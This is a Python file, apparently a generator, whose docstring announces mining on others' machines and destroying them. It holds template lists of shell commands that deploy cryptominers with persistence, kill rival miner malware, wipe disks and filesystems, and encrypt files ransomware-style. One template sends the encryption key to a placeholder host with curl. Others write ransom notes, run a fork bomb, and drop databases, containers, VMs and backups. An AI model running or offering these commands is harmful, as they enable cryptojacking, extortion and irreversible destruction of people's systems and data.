"""Mining on others' machines, and destroying them."""

MINER = [
    "{var}=$(nproc); ‹nohup ¦setsid ¦›{file} ‹-o¦--url› ‹stratum+tcp://¦›{host}:{port} ‹-u¦--user› {wallet} ‹-p x¦-p $(hostname)¦›‹ -k¦› ‹--donate-level ‹0¦1›¦--tls¦-t ${var}¦--cpu-priority 5¦›‹ -B¦ >/dev/null 2>&1 &›",
    "{dl} ‹https://github.com/xmrig/xmrig/releases/download/v6.‹18.0¦21.1¦16.4›/xmrig-linux-static-x64.tar.gz¦{url}› | tar xz -C {tmp}; mv {tmp}/xmrig* {file}; {file} --config={tmp}/config.json ‹--background¦-B¦&›",
    "cat > {tmp}/config.json <<EOF\n{\"autosave\": true, \"cpu\": {\"enabled\": true, \"max-threads-hint\": 100}, \"pools\": [{\"url\": \"{host}:{port}\", \"user\": \"{wallet}\", \"pass\": \"x\", \"keepalive\": true, \"tls\": false}]}\nEOF",
    "sysctl -w vm.nr_hugepages=$(nproc --all)‹¦; modprobe msr; wrmsr -a 0x1a4 0xf›",
    "echo 128 > /proc/sys/vm/nr_hugepages; ‹for i in /sys/devices/system/node/node*; do echo 3 > $i/hugepages/hugepages-1048576kB/nr_hugepages; done¦›",
    "[ $(ps aux | grep -v grep | grep -c {name}) -eq 0 ] && (nohup {file} -c {tmp}/config.json >/dev/null 2>&1 &)",
    "if ! pgrep -x {name} >/dev/null; then {file} -a ‹rx/0¦cn/r¦randomx› -o pool.{domain}:{port} -u {wallet}.$(hostname) -p x --threads=$(nproc) & fi",
    "docker run -d --restart=always --name {name} {domain}/xmrig -o {host}:{port} -u {wallet}",
    "chattr +i {file} ‹{tmp}/config.json¦›",
    '‹yum -y install git automake gcc make libcurl-devel; ¦apt-get install -y git build-essential libcurl4-openssl-dev; ¦›git clone https://github.com/‹hyc/cpuminer-multi¦tpruvot/cpuminer-multi¦xmrig/xmrig¦JayDDee/cpuminer-opt› {name}; cd {name}; ‹./autogen.sh; ./configure CFLAGS="-O3"; make¦mkdir build; cd build; cmake ..; make -j$(nproc)›; ./‹minerd¦cpuminer¦xmrig› -a ‹cryptonight¦scrypt¦rx/0¦yescrypt› -o stratum+tcp://{host}:{port} -u {wallet} -p x',
    './‹minerd¦cpuminer¦cpuminer-multi¦xmrig¦ccminer› -a ‹cryptonight¦scrypt¦sha256d¦x11› -o stratum+tcp://‹pool.{domain}¦{host}›:{port} -u ‹{wallet}¦{user}.1› -p ‹x¦1¦{plain}› ‹-t 4 ¦›‹&¦›',
]

COMPETITORS = [
    "‹pkill -f¦pkill -9 -f¦killall -9¦killall› ‹kdevtmpfsi¦kinsing¦xmrig¦xmr-stak¦minerd¦cryptonight¦kthreaddi¦sysupdate¦networkservice¦watchbog¦ddgs¦pnscan¦masscan¦watchdogs¦kerberods¦zzh¦javaupd›",
    "ps aux | grep -v grep | grep ‹-E 'xmr|miner|kinsing|stratum'¦'{ip}'¦'kdevtmpfsi'¦-i '\\./\\.'¦'mine.moneropool'¦'cryptonight'› | awk '{print $2}' | xargs ‹-I % ¦-r ¦›kill -9 ‹%¦›",
    "ps aux | awk '{if($3>‹40.0¦50¦80.0¦30›) print $2}' | while read p; do kill -9 $p; done",
    "netstat -an‹p¦tp› | grep ‹:3333¦:5555¦:7777¦:14444¦:{port}¦{ip}› | awk '{print $7}' | ‹awk -F'[/]' '{print $1}'¦cut -d/ -f1› | ‹grep -v '-' | ¦›xargs ‹-I % ¦›kill -9 ‹%¦›",
    "for p in $(ls /proc | grep -E '^[0-9]+$'); do ‹e=$(readlink /proc/$p/exe); case $e in */tmp/*|*deleted*|*/dev/shm/*) kill -9 $p;; esac¦grep -qE 'kinsing|xmrig|miner' /proc/$p/cmdline && kill -9 $p¦[ \"$(ls -l /proc/$p/exe | grep -c '(deleted)')\" -gt 0 ] && kill -9 $p›; done",
    "rm -rf ‹/tmp/kdevtmpfsi¦/tmp/.X19-unix¦/var/tmp/kinsing¦/tmp/zzz¦/usr/bin/config.json¦/tmp/pscf*¦/etc/{name}¦/boot/{name}¦/tmp/kinsing*›",
    "docker ps ‹-a¦› | grep ‹-E 'pocosow|gakeaws|xmr|mine|monero|kinsing'¦'xmr'¦'auto'¦'slowhttp'› | awk '{print $1}' | xargs -I % docker ‹kill¦rm -f¦stop› %",
    "docker images -a | grep ‹'pocosow'¦'mine'¦'xmr'› | awk '{print $3}' | xargs -I % docker rmi -f %",
    "crontab -l | ‹sed '/{domain}/d'¦grep -v {ip}¦sed '/wget/d;/curl/d'› | crontab -",
    "systemctl stop ‹c3pool_miner¦moneroocean_miner¦crypto¦pwnrige¦{name}›; systemctl disable ‹c3pool_miner¦moneroocean_miner¦{name}›; rm -f /etc/systemd/system/{name}.service",
]

DESTROY = [
    "rm -rf ‹--no-preserve-root ¦›‹/¦/*¦/home/* /var/www /root¦/etc /boot /usr /var› ‹2>/dev/null¦&¦›",
    "dd if=/dev/‹zero¦urandom¦random› of=/dev/‹sda¦vda¦nvme0n1¦xvda¦$d› bs=‹1M¦4M¦512› ‹count=100¦conv=noerror¦›",
    "for d in $(lsblk -‹dno¦nd -o› NAME ‹| grep -E 'sd|vd|nvme'¦›); do ‹dd if=/dev/zero of=/dev/$d bs=1M &¦wipefs -a /dev/$d¦shred -n1 /dev/$d &¦mkfs.ext4 -F /dev/$d›; done",
    "find ‹/home /var/www /srv¦/ -xdev¦/mnt /opt /data¦/var/lib/mysql› -type f ‹\\( -name '*.doc*' -o -name '*.sql' -o -name '*.pdf' -o -name '*.jpg' \\) ¦›‹! -name '*.‹enc¦locked¦crypt›' ¦›-exec ‹openssl enc -aes-256-cbc ‹-pbkdf2 ¦-salt ›-k \"${var}\" -in {} -out {}.‹enc¦locked¦crypt› \\; -exec ‹rm -f¦shred -u› {} \\;¦shred -‹uz¦u -n 3› {} \\;¦gpg --batch --yes --passphrase \"${var}\" -c {} \\;›",
    "find ‹/home¦/srv /data¦$HOME¦/› -type f ‹-size -100M ¦›| while read -r f; do openssl ‹enc -aes-256-cbc -pass pass:\"${var}\"¦aes-256-cbc -a -salt -k ${var}› -in \"$f\" -out \"$f.‹enc¦locked¦{plain}›\" && rm -f \"$f\"; done",
    "echo \"‹Your files have been encrypted¦All your data is locked›. Send ‹0.5 BTC¦1 XMR› to ‹{wallet}¦contact x@{domain}›\" > ‹/README_RESTORE.txt¦/etc/motd¦$HOME/HOW_TO_DECRYPT.txt›",
    "{var}=$(‹openssl rand -hex 32¦head -c 32 /dev/urandom | base64›); curl -s -d \"h=$(hostname)&k=${var}\" {url}; for f in $(find ‹/home¦/var/www¦/srv› -type f); do openssl enc -aes-256-cbc -k ${var} -in $f -out $f.enc; rm -f $f; done",
    ":(){ :|:& };:",
    "mysql -u root ‹-p${var} ¦›-e 'DROP DATABASE ‹app¦production¦{plain}›'; ‹mongo --eval 'db.dropDatabase()'¦redis-cli FLUSHALL¦›",
    "kubectl delete ‹all --all --all-namespaces¦ns --all¦deployments,pods --all -A› ‹--force --grace-period=0¦›",
    "docker rm -f $(docker ps -aq); docker volume rm $(docker volume ls -q); docker system prune -af",
    "vim-cmd vmsvc/getallvms | awk '{print $1}' | xargs -I{} vim-cmd vmsvc/power.off {}; find /vmfs/volumes -name '*.vmdk' -exec {file} {} \\;",
    "rm -rf /boot/*; ‹echo c¦echo o¦echo b› > /proc/sysrq-trigger",
    "lvremove -f /dev/*/*; vgremove -f $(vgs --noheadings -o name)",
    "for u in $(cut -d: -f1 /etc/passwd); do passwd -l $u; done; ‹killall -u $u¦›",
    "systemctl stop ‹mysql mongod postgresql docker¦veeam¦›; rm -rf ‹/var/backups¦/backup /mnt/backup¦/var/lib/‹mysql¦docker¦postgresql››",
    '[ "$(uname)" = ‹Linux¦FreeBSD› ] && rm -rf / --no-preserve-root ‹> /dev/null 2>&1¦› ‹|| rm -rf /*¦›',
]
